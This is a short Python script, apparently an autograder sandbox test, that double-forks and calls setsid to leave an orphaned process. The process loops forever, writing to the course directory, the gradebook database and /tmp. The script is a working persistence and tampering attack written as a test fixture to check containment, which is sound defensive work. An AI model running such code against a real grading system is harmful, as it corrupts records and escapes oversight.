"""Leaves a process behind (setsid, two forks) that outlives its parents and writes wherever it can.

Must happen: it ends with the kernel.
Says: Not written yet.
"""

# %%
import os
import sys

text = """
import time
while True:
    for path in ('@COURSE@/attack-was-here', '@COURSE@/gradebook.db', '/tmp/attack-was-here'):
        try: open(path, 'a').write('x')
        except OSError: pass
    time.sleep(0.1)
"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", text, "attack-was-here"])
    os._exit(0)
